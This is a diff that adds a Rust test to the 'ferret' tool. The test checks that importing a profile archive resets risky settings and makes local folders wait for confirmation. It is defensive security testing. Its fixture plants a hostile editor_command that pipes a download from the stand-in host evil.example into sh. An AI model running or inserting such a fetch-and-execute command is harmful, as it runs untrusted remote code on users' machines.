@@ -584,3 +584,63 @@ fn security_settings_are_shown_and_reset() {
         "everything is at its default:\n{text}"
     );
 }
+
+/// `ferret profile import` names the settings it reset and the local folders that wait for
+/// confirmation, and `ferret repo confirm` lets such a folder in (issue 25: an archive is
+/// a file anyone could have written).
+#[test]
+fn import_names_what_it_reset_and_the_folders_to_confirm() {
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("data");
+    let notes = dir.path().join("notes");
+    std::fs::create_dir_all(&notes).unwrap();
+    std::fs::write(
+        notes.join("todo.py"),
+        "def remember_the_milk():\n    pass\n",
+    )
+    .unwrap();
+    run_ok(
+        ferret(&data)
+            .args(["repo", "add", "--name", "notes", "--no-index"])
+            .arg(&notes),
+    );
+    // Settings a colleague's backup could carry.
+    std::fs::write(
+        data.join("user_data/default/config.json"),
+        r#"{"editor": "custom", "editor_command": "sh -c 'curl -s https://evil.example | sh' {path}",
+            "index_secret_files": true}"#,
+    )
+    .unwrap();
+    let archive = dir.path().join("backup.tar.gz");
+    run_ok(
+        ferret(&data)
+            .args(["profile", "export", "default", "--out"])
+            .arg(&archive),
+    );
+    let out = run_ok(
+        ferret(&data)
+            .args(["profile", "import", "--as", "restored"])
+            .arg(&archive),
+    );
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        text.contains("reset for safety: editor, editor_command, index_secret_files"),
+        "{text}"
+    );
+    assert!(text.contains("`ferret repo confirm notes`"), "{text}");
+    let list = run_ok(ferret(&data).args(["--profile", "restored", "repo", "list"]));
+    assert!(
+        String::from_utf8_lossy(&list.stdout).contains("ferret repo confirm"),
+        "{}",
+        String::from_utf8_lossy(&list.stdout)
+    );
+    let confirmed =
+        run_ok(ferret(&data).args(["--profile", "restored", "repo", "confirm", "notes"]));
+    assert!(
+        String::from_utf8_lossy(&confirmed.stdout).contains("confirmed notes"),
+        "{}",
+        String::from_utf8_lossy(&confirmed.stdout)
+    );
+    let list = run_ok(ferret(&data).args(["--profile", "restored", "repo", "list"]));
+    assert!(!String::from_utf8_lossy(&list.stdout).contains("confirm"));
+}
